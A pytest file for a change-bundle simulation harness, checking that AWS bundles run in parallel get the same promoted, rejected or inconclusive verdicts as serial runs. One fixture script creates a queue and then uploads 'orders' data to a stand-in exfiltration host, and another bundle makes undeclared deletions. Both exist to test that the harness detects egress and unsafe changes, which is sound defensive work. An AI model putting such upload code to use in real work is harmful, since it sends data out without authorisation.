"""Many bundles against one snapshot, side by side: the same judgement as one at a time.

Real moto templates and clones, real isolation (a proxy and a network namespace per
run), the real CLI. Expected verdicts come from what each bundle does: a declared queue
is promoted, an undeclared deletion is rejected, an operation moto lacks is
inconclusive, a script that ships data to another host is rejected for egress.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from harness.bundles import load_bundle
from harness.bundles.model import Bundle
from harness.collectors.capture import capture
from harness.demo.estate import PROD_ACCOUNT, build_estate
from harness.estate.snapshot import Snapshot, save
from harness.parallel import run_parallel, worst_exit
from harness.sandbox.moto import MotoBackend
from harness.simulate import Simulation, simulate
from tests.report.sims import aws_calls, write_bundle

SERVICES = ("s3", "sqs", "dynamodb")
EGRESS_SCRIPT = """\
import urllib.request
import boto3

boto3.client("sqs").create_queue(QueueName="shipped")
try:
    urllib.request.urlopen("http://exfil.example.invalid:8080/upload", data=b"orders", timeout=5)
except Exception as exc:
    print("upload failed:", exc)
"""


@pytest.fixture(scope="module")
def snapshot() -> Snapshot:
    with MotoBackend(account=PROD_ACCOUNT) as prod:
        build_estate(prod.target(), services=SERVICES)
        return capture(prod.target(), regions=["us-east-1"], services=list(SERVICES))


def bundles(root: Path) -> list[tuple[Bundle, str]]:
    """(bundle, the verdict its behaviour calls for)."""
    return [
        (write_bundle(root / "queue", name="create-queue", summary="a queue for new jobs",
                      effects=[{"action": "create", "resource": "sqs:queue/new-jobs"}],
                      change=aws_calls({"service": "sqs", "operation": "CreateQueue",
                                        "params": {"QueueName": "new-jobs"}})), "promoted"),
        (write_bundle(root / "wipe", name="undeclared-wipe", summary="a queue for new jobs",
                      effects=[{"action": "create", "resource": "sqs:queue/new-jobs"}],
                      change=aws_calls({"service": "sqs", "operation": "CreateQueue",
                                        "params": {"QueueName": "new-jobs"}},
                                       {"service": "s3", "operation": "DeleteBucketTagging",
                                        "params": {"Bucket": "app-logs"}},
                                       {"service": "dynamodb", "operation": "DeleteItem",
                                        "params": {"TableName": "orders", "Key": {"order_id": {"S": "o-0000001"}}}})),
         "rejected"),
        (write_bundle(root / "lacking", name="lacking-operation", summary="look for capacity",
                      effects=[],
                      change=aws_calls({"service": "ec2", "operation": "DescribeCapacityBlockOfferings",
                                        "params": {"CapacityDurationHours": 24, "InstanceType": "p5.48xlarge",
                                                   "InstanceCount": 1}})), "inconclusive"),
        (write_bundle(root / "egress", name="ship-orders", summary="a queue for shipped orders",
                      effects=[{"action": "create", "resource": "sqs:queue/shipped"}],
                      change={"kind": "script", "script": "ship.py"}, files={"ship.py": EGRESS_SCRIPT}),
         "rejected"),
    ]


def judgement(sim: Simulation) -> dict[str, Any]:
    """Everything a verdict rests on, without timings, timestamps or generated ids."""
    changes = {address: (c.action, sorted(f.path for f in c.fields),
                         c.data.to_json() if c.data else None,
                         sorted(str(g) for g in c.grants_added), sorted(str(g) for g in c.grants_removed))
               for address, c in sim.changes.changes.items()}
    return {
        "verdict": sim.verdict.outcome if sim.verdict else None,
        "findings": sorted((f.rule, f.severity, f.address or "", f.path or "") for f in sim.findings),
        "changes": changes,
        "unknown": sorted((u.address or "", u.service) for u in sim.changes.unknown),
        "calls": [(c.service, c.operation, c.status) for c in sim.calls],
    }


def test_side_by_side_runs_judge_exactly_like_one_at_a_time(tmp_path, snapshot):
    cases = bundles(tmp_path)
    work = [b for b, _ in cases] * 2  # each bundle twice in the same batch, on the same template

    def one(bundle: Bundle) -> dict[str, Any]:
        return judgement(simulate(bundle, snapshot))

    serial = list(run_parallel(one, work[:len(cases)], jobs=1))
    parallel = list(run_parallel(one, work, jobs=4))
    assert [j["verdict"] for j in serial] == [expected for _, expected in cases]
    assert parallel == serial * 2
    assert any(f[0] == "SHD-EGRESS" for f in serial[3]["findings"])
    assert "dynamodb:table/orders" in serial[1]["changes"]


def test_cli_many_bundles_one_report_each_and_the_worst_exit_code(tmp_path, snapshot):
    cases = bundles(tmp_path / "bundles")[:3]
    snapshot_file = save(snapshot, tmp_path / "snapshot.json")
    out = tmp_path / "reports"
    proc = _shadow("run", *(str(b.root) for b, _ in cases), "--snapshot", str(snapshot_file),
                   "--format", "json", "-o", str(out), "-j", "3")
    assert "Traceback" not in proc.stderr, proc.stderr
    assert proc.returncode == 3  # inconclusive is the worst of promoted, rejected, inconclusive
    for bundle, expected in cases:
        doc = json.loads((out / f"{bundle.name}.json").read_text())
        assert doc["verdict"]["outcome"] == expected
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{b.name}.json" for b, _ in cases)


def test_cli_one_bad_bundle_among_many_exits_2_before_anything_runs(tmp_path, snapshot):
    good = bundles(tmp_path / "bundles")[0][0]
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "bundle.yaml").write_text("apiVersion: shadow/v1\nkind: ChangeBundle\n")
    out = tmp_path / "reports"
    proc = _shadow("run", str(good.root), str(bad), "--snapshot", str(save(snapshot, tmp_path / "s.json")),
                   "--format", "json", "-o", str(out))
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
    assert not out.exists()


@pytest.mark.parametrize(("codes", "worst"), [
    ([0, 0], 0), ([0, 1], 1), ([1, 3, 0], 3), ([3, 2, 1], 2), ([], 0),
])
def test_worst_exit_orders_bad_input_inconclusive_rejected_promoted(codes, worst):
    assert worst_exit(codes) == worst


def test_report_names_follow_bundle_names_and_stay_distinct(tmp_path):
    from harness.commands.run import report_names

    first = write_bundle(tmp_path / "a", name="same", summary="s", effects=[], change=aws_calls(
        {"service": "sqs", "operation": "ListQueues"}))
    second = load_bundle(first.root)
    assert report_names([first, second], "json") == ["same.json", "same-2.json"]


def _shadow(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "harness", *args], capture_output=True, text=True,
                          env=dict(os.environ), timeout=900)
